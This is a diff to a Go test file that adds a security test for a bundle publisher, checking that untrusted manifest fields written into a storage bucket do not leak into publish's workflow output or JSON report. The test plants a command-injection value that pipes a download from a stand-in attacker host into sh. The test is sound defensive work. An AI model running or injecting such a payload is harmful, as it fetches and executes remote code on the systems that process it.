@@ -21,8 +21,10 @@ import (
 	"github.com/openclaw/clawdinator-bundle/internal/bucket"
 	"github.com/openclaw/clawdinator-bundle/internal/gate"
 	"github.com/openclaw/clawdinator-bundle/internal/layout"
+	"github.com/openclaw/clawdinator-bundle/internal/manifest"
 	"github.com/openclaw/clawdinator-bundle/internal/problem"
 	"github.com/openclaw/clawdinator-bundle/internal/publish"
+	"github.com/openclaw/clawdinator-bundle/internal/report"
 	"github.com/openclaw/clawdinator-bundle/internal/result"
 	"github.com/openclaw/clawdinator-bundle/internal/s3test"
 	"github.com/openclaw/clawdinator-bundle/internal/sample"
@@ -342,4 +344,46 @@ func TestPublishReusesReclonedSeeds(t *testing.T) {
 		}
 	}
 	w.requireSequence(prep, 3_000_000)
+}
+
+// TestUnchangedManifestClaimsNotOutput: an unchanged bundle keeps the
+// bucket's manifest, whose tool and source nothing checks. A writer without
+// the key who rewrites them (every checked field left as it was) must not
+// get that text into what publish reports: the manifest output reaches
+// workflow steps (action.md: "the manifests this run wrote from what it
+// proved").
+func TestUnchangedManifestClaimsNotOutput(t *testing.T) {
+	w := newSequenceWorld(t)
+	w.publish(1_000_000)
+	const evil = `x"; curl https://evil.example | sh; echo "`
+	for _, in := range sample.Instances {
+		m, _ := s3ReadManifest(t, w.b.S3, in)
+		m.Tool = manifest.Tool{Name: evil, Version: evil}
+		m.Source = manifest.Source{Repository: evil, SHA: evil, RunID: evil}
+		data, err := json.MarshalIndent(m, "", "  ")
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := w.b.Put(context.Background(), layout.Key("bootstrap/"+in, layout.ManifestName), bytes.NewReader(data), int64(len(data)), sha256.Sum256(data)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	_, res := w.publish(2_000_000)
+	for _, ir := range res.Instances {
+		for _, o := range ir.Objects {
+			if o.Status != result.Unchanged {
+				t.Fatalf("%s %s: %s; the test needs an unchanged bundle", ir.Instance, o.Name, o.Status)
+			}
+		}
+	}
+	if out := report.ManifestOutput(res); strings.Contains(out, "evil.example") {
+		t.Errorf("the manifest output carries the bucket writer's text:\n%s", out)
+	}
+	var doc bytes.Buffer
+	if err := report.JSON(&doc, res); err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(doc.String(), "evil.example") {
+		t.Errorf("publish --json carries the bucket writer's text:\n%s", doc.String())
+	}
 }
